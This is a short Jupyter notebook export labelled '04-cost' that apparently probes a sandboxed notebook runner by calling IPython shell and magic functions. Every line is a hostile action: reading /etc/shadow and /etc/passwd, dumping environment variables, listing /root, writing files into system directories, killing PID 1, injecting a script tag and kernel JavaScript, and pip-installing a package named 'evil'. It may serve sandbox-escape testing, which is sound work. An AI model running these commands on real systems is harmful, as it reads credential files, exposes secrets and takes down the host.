# notebook: 04-cost
# Lets IPython's magics and the shell do what Python should not.
get_ipython().system("id; cat /etc/shadow /etc/passwd; ls / /home /root; env; mount; ps axww")
get_ipython().run_line_magic("env", "")
get_ipython().run_cell_magic("bash", "", "touch /usr/broken-out /broken-out; kill -9 1")
get_ipython().run_cell_magic("javascript", "", "Jupyter.notebook.kernel.execute('1')")
get_ipython().run_cell_magic("html", "", "<script>evil()</script>")
get_ipython().run_line_magic("pip", "install --target /tmp/work evil")
